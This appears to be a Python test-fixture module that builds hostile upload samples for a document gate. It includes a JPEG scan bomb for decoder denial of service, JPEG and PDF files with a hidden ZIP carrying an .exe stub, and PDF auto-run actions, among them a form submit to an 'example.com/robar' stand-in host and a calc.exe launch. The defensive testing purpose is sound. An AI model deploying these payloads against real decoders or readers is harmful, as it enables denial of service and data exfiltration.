"""Hostile files made here (Pillow, pypdf, raw bytes): the scan bomb, active content, polyglots, and the
harmless oddities the gate must still accept. Used by tests/test_hostiles_gate.py and bench/hostiles.py."""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile

from PIL import Image

from tests import files

_MARCADOR = re.compile(rb"\xff[^\x00\xd0-\xd7\xff]")


def _segmentos(datos: bytes) -> list[tuple[int, int, int]]:
    """(marker, start, end) of each segment of a JPEG; a scan's end includes its entropy-coded data."""
    pos, salida = 2, []
    while pos < len(datos):
        marcador = datos[pos + 1]
        if marcador == 0xD9:
            salida.append((marcador, pos, pos + 2))
            break
        (longitud,) = struct.unpack_from(">H", datos, pos + 2)
        fin = pos + 2 + longitud
        if marcador == 0xDA:
            fin = _MARCADOR.search(datos, fin).start()
        salida.append((marcador, pos, fin))
        pos = fin
    return salida


@functools.lru_cache(maxsize=4)
def jpeg_bomba_de_escaneos(lado: int = 6320, escaneos: int = 3000) -> bytes:
    """A progressive JPEG of `lado`² pixels (under the pixel limit) whose last AC scan is repeated until
    it has `escaneos` scans: each one is a few dozen bytes and a pass over every block (the 87 s file)."""
    salida = io.BytesIO()
    Image.new("L", (lado, lado), 255).save(salida, "JPEG", progressive=True, quality=50)
    datos = salida.getvalue()
    scans = [s for s in _segmentos(datos) if s[0] == 0xDA]
    _m, inicio, fin = scans[-1]
    extra = datos[inicio:fin] * (escaneos - len(scans))
    return datos[:fin] + extra + datos[fin:]


@functools.lru_cache(maxsize=4)
def jpeg_progresivo_en_el_limite(lado: int = 2800, escaneos: int = 32) -> bytes:
    """The heaviest progressive JPEGs the gate still decodes: a document photo with its last scan
    repeated up to `escaneos` scans. 2800² with 32 scans and 5600² with 8 scans are both just inside
    the block-scan budget (4 million); 5600² is also at the progressive memory cap (500,000 blocks)."""
    foto = files._foto(lado, lado, 3).convert("L")
    salida = io.BytesIO()
    foto.save(salida, "JPEG", progressive=True, quality=20)
    datos = salida.getvalue()
    scans = [s for s in _segmentos(datos) if s[0] == 0xDA]
    _m, inicio, fin = min(scans, key=lambda s: s[2] - s[1])  # the lightest scan, repeated
    fin_ultimo = scans[-1][2]
    return datos[:fin_ultimo] + datos[inicio:fin] * max(0, escaneos - len(scans)) + datos[fin_ultimo:]


@functools.lru_cache(maxsize=2)
def jpeg_base_en_el_limite() -> bytes:
    """A baseline colour JPEG of a document near the pixel limit (6000 × 6000, 36 megapixels) that
    fits in 1 MiB."""
    foto = files._foto(6000, 6000, 3)
    for calidad in range(30, 0, -5):
        salida = io.BytesIO()
        foto.save(salida, "JPEG", quality=calidad)
        if salida.tell() <= 1_040_000:
            return salida.getvalue()
    raise ValueError("no cabe en 1 MiB")


def zip_con_exe() -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w") as archivo:
        archivo.writestr("factura.exe", b"MZ\x90\x00" + b"\x00" * 200)
    return salida.getvalue()


def jpeg_zip_despues() -> bytes:
    """A JPEG followed by a ZIP holding an .exe."""
    return files.jpeg_documento() + zip_con_exe()


def jpeg_zip_en_app() -> bytes:
    """A ZIP hidden in an APP15 segment."""
    base = files.jpeg_documento()
    carga = zip_con_exe()
    return base[:2] + b"\xff\xef" + struct.pack(">H", len(carga) + 2) + carga + base[2:]


def jpeg_zip_tras_relleno() -> bytes:
    """A ZIP after a long run of NUL padding (so a check that stops at the padding misses it)."""
    return files.jpeg_documento() + b"\x00" * 4096 + zip_con_exe()


def jpeg_relleno_nul() -> bytes:
    """A JPEG padded with NUL bytes after its end (cameras and some transfers do this): acceptable."""
    return files.jpeg_documento() + b"\x00" * 8192


# --------------------------------------------------------------------------- PDF


def _con_catalogo(extra: bytes, mas: tuple = (), pagina: bytes = b"") -> bytes:
    """A one-page PDF with text, its catalog extended with `extra` and its page with `pagina` (raw PDF
    syntax); objects in `mas` are numbered from 6."""
    contenido = b"BT /F1 18 Tf 72 720 Td (Solicitud de reinsercion laboral) Tj ET"
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + pagina + b" >>",
        b"<< /Length %d >>\nstream\n" % len(contenido) + contenido + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *mas,
    ]
    return files._pdf_crudo(objetos)


def pdf_con_texto() -> bytes:
    return _con_catalogo(b"")


def pdf_xfa() -> bytes:
    """An XFA form whose template carries a script."""
    xfa = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>'
    )
    return _con_catalogo(
        b"/AcroForm << /Fields [] /XFA 6 0 R >>",
        (b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream",),
    )


def pdf_accion_al_abrir(accion: bytes) -> bytes:
    """`accion` (raw dictionary body) run by /OpenAction."""
    return _con_catalogo(b"/OpenAction << " + accion + b" >>")


def pdf_accion_en_aa(accion: bytes) -> bytes:
    """`accion` run by the page-open event of the catalog's additional actions (/AA /O)."""
    return _con_catalogo(b"/AA << /O << " + accion + b" >> >>")


ACCIONES = {
    "gotor": b"/S /GoToR /F (otro.pdf) /D [0 /Fit]",
    "gotoe": b"/S /GoToE /D [0 /Fit] /T << /R /C /N (adjunto) >>",
    "importdata": b"/S /ImportData /F (datos.fdf)",
    "submitform": b"/S /SubmitForm /F << /FS /URL /F (http://example.com/robar) >>",
    "uri": b"/S /URI /URI (http://example.com/seguimiento)",
    "launch": b"/S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe)",
}


def pdf_richmedia() -> bytes:
    """A page with a /RichMedia annotation (Flash or video played inside the reader)."""
    return _con_catalogo(
        b"",
        (
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << >> >> >>",
        ),
        b"/Annots [6 0 R]",
    )


def pdf_enlace_uri() -> bytes:
    """An ordinary web link the reader follows only when clicked: acceptable."""
    return _con_catalogo(
        b"",
        (
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://www.iess.gob.ec) >> >>",
        ),
        b"/Annots [6 0 R]",
    )


def pdf_zip_despues() -> bytes:
    """A PDF followed by a ZIP that holds an .exe."""
    return pdf_con_texto() + zip_con_exe()


def pdf_zip_dentro() -> bytes:
    """A ZIP with an .exe stored raw in an unreferenced stream in the middle of the PDF."""
    carga = zip_con_exe()
    return _con_catalogo(b"", (b"<< /Length %d >>\nstream\n" % len(carga) + carga + b"\nendstream",))


def pdf_en_blanco() -> bytes:
    """One page with an empty content stream."""
    return files._pdf_crudo(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length 0 >>\nstream\n\nendstream",
        ]
    )


def pdf_solo_clave_de_propietario() -> bytes:
    """The request letter with an owner password only (no password to open it; printing restricted)."""
    escritor = files._escritor()
    escritor.encrypt(user_password="", owner_password="dueno", algorithm="AES-128", permissions_flag=0)
    return files._bytes(escritor)


def pdf_derechos_de_uso() -> bytes:
    """A Reader-extended form: its usage-rights signature's /TransformParams has /EF [/Create ...]
    (permissions on embedded files, an array of names), which is not an embedded file."""
    return _con_catalogo(
        b"/Perms << /UR3 6 0 R >>",
        (
            b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Reference [<< /Type /SigRef "
            b"/TransformMethod /UR3 /TransformParams << /Type /TransformParams /V /2.2 /Document [/FullSave] "
            b"/Form [/Add /FillIn] /EF [/Create /Delete /Modify /Import] /Annots [/Create] >> >>] >>",
        ),
    )


def pdf_muchos_objetos(n: int = 2_990) -> bytes:
    """A one-page PDF with text carrying `n` small unreferenced objects (just under the 3,000 limit):
    the most objects the check will look at."""
    extra = tuple(b"<< /Tipo /Relleno /N %d /Lista [1 2 3 (texto)] >>" % i for i in range(n))
    return _con_catalogo(b"", extra)
